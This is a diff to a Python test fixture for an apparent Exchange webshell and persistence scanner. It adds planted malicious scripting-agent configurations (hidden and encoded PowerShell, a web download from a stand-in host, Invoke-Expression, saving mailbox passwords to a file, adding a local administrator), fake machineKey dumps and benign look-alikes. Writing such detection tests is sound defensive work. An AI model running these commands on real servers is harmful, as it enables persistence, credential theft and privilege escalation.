@@ -4,7 +4,8 @@ from __future__ import annotations
 
 from typing import Final
 
-from tests.persistence.plants import EXCHANGE, Change, Plant, added, honest, plant
+from tests.persistence.plants import EXCHANGE, FRONT_END, SITE, Change, Plant, added, honest, plant
+from webshellhunt.model.verdict import Disposition
 
 _SHARED: Final = f"{EXCHANGE}/TransportRoles/Shared"
 _INSTALL: Final = EXCHANGE.replace("C/", "C:/").replace("/", "\\")
@@ -36,6 +37,35 @@ def _agents(name: str = "", factory: str = "", path: str = "", *, file: str = "a
         f'<?xml version="1.0" encoding="utf-8"?><configuration><mexRuntime><monitoring />'
         f"<agentList>{rows}</agentList><settings /></mexRuntime></configuration>",
     )
+
+
+_SIGNING: Final = "".join(f"{(each * 37 + 11) % 251:02X}" for each in range(64))
+_ENCRYPTING: Final = "".join(f"{(each * 59 + 23) % 253:02X}" for each in range(32))
+"""Keys that are made here and used nowhere."""
+_DUMP: Final = f"{_SIGNING}|HMACSHA256|{_ENCRYPTING}|Auto|Framework45"
+_ELEMENT: Final = f'<machineKey validationKey="{_SIGNING}" decryptionKey="{_ENCRYPTING}" validation="HMACSHA256" />'
+_PROSE: Final = "<p>Each server of a farm needs the same key, which an administrator makes once and keeps.</p>" * 12
+
+
+def _keys(name: str, path: str, content: str) -> Plant:
+    return plant(30, f"keys in {name}", "WSH4091", added(path, content))
+
+
+def _script(body: str, call: str = "OnComplete") -> Change:
+    """Return the change that configures the scripting agent."""
+    return added(
+        f"{EXCHANGE}/Bin/CmdletExtensionAgents/ScriptingAgentConfig.xml",
+        '<?xml version="1.0" encoding="utf-8" ?><Configuration version="1.0"><Feature Name="Mailboxes" '
+        f'Cmdlets="New-Mailbox,Enable-Mailbox"><ApiCall Name="{call}">{body}</ApiCall></Feature></Configuration>',
+    )
+
+
+def _scripting(name: str, body: str) -> Plant:
+    return plant(47, f"scripting agent that {name}", "WSH4090", _script(body))
+
+
+def _text(name: str, path: str, content: str) -> Plant:
+    return honest(30, name, added(path, content))
 
 
 def _agent(name: str, *change: str, file: str = "agents.config") -> Plant:
@@ -89,6 +119,38 @@ PLANTS: Final = (
              "C:\\Program Files\\Exclaimer Ltd\\Signature Manager Exchange Edition\\Exclaimer.Agent.dll"),
     _product("ESET", "ESET Filtering Agent", "XmonAgent.FilterFactory",
              "C:\\Program Files\\ESET\\ESET Mail Security\\XmonAgent.dll"),
+    _scripting("starts a program", "if($succeeded){ Start-Process C:\\Windows\\Temp\\none.exe }"),
+    _scripting("starts PowerShell", "&amp; powershell.exe -nop -w hidden -file C:\\none.ps1"),
+    _scripting("runs an encoded command", f"powershell -enc {'QQBBAEEA' * 12}"),
+    _scripting("fetches text", "$a = (New-Object Net.WebClient).DownloadData('https://none.example/')"),
+    _scripting("runs text", "Invoke-Ex·pression $provisioningHandler.UserSpecifiedParameters['Notes']"),
+    _scripting("keeps passwords", "$provisioningHandler.UserSpecifiedParameters[\"Password\"] &gt;&gt; C:\\n.txt"),
+    _scripting("adds an administrator", "net localgroup administrators none /add"),
+    plant(47, "scripting agent without an act", "WSH4090", _script("Set-Mailbox $n -Custom1 x"),
+          least=Disposition.UNEXPLAINED, why="few organisations use it, and a script without an act accuses nobody"),
+    honest(47, "scripting agent that sets the archive", _script(
+        "if($succeeded) { $m = $provisioningHandler.UserSpecifiedParameters[\"Alias\"]; Enable-Mailbox $m -Archive; "
+        "Set-MailboxRegionalConfiguration $m -Language de-DE }"), most=Disposition.UNEXPLAINED),
+    honest(47, "the sample of the scripting agent", added(
+        f"{EXCHANGE}/Bin/CmdletExtensionAgents/ScriptingAgentConfig.xml.sample", "<Configuration version='1.0' />")),
+    _keys("a script of OWA", f"{FRONT_END}/owa/auth/debug_dev.js", _DUMP),
+    _keys("a script with commas", f"{SITE}/aspnet_client/info.js", _DUMP.replace("|", ",")),
+    _keys("a script as a comment", f"{SITE}/jquery.js", f"/* {_DUMP} */var a=1;"),
+    _keys("a style sheet", f"{FRONT_END}/owa/auth/x.css", f"/* {_ELEMENT} */"),
+    _keys("a text", f"{SITE}/info.txt", f"{_SIGNING}\r\nHMACSHA512\r\n{_ENCRYPTING}\r\n"),
+    _keys("a text with the older algorithm", f"{SITE}/k.txt", f"{_SIGNING[:40]}|SHA1|{_ENCRYPTING[:48]}"),
+    _keys("a page", f"{FRONT_END}/ecp/auth/s.html", f"<html><body>{_ELEMENT}</body></html>"),
+    _keys("a picture's name", f"{SITE}/aspnet_client/logo.png", _DUMP),
+    _keys("JSON", f"{SITE}/keys.json", f'{{"validationKey": "{_SIGNING}", "decryptionKey": "{_ENCRYPTING}"}}'),
+    _keys("lines with names", f"{SITE}/a.log", f"ValidationKey={_SIGNING}\nDecryptionKey={_ENCRYPTING}\n"),
+    _keys("an element of XML", f"{SITE}/s.xml", f"<a>{_ELEMENT}</a>"),
+    _keys("a script with both keys first", f"{SITE}/b.js", f"{_SIGNING};{_ENCRYPTING};HMACSHA256"),
+    _text("a document about keys", f"{SITE}/help/farm.html", f"<html>{_PROSE}<pre>{_ELEMENT}</pre></html>"),
+    _text("a sample of configuration", f"{SITE}/web.config.sample.txt", f"<configuration>{_ELEMENT}</configuration>"),
+    _text("digests of downloads", f"{SITE}/checksums.txt", f"SHA256: {_ENCRYPTING}\nSHA1: {_SIGNING[:40]}\n"),
+    _text("digests in a script", f"{SITE}/app.js", f'var m={{"a.js":"sha1-{_SIGNING[:40]}","b.js":"{_ENCRYPTING}"}};'),
+    _text("made-up keys", f"{SITE}/farm.js", f"// {'0' * 64}|HMACSHA256|{'AB' * 24}"),
+    _text("a key of a script that encrypts", f"{SITE}/crypt.js", f'var aes="{_ENCRYPTING}",iv="{_SIGNING[:32]}";'),
     _product("DKIM Signer", "Exchange DkimSigner", "Exchange.DkimSigner.DkimSigningRoutingAgentFactory",
              "C:\\Program Files\\Exchange DkimSigner\\ExchangeDkimSigner.dll"),
 )  # fmt: skip
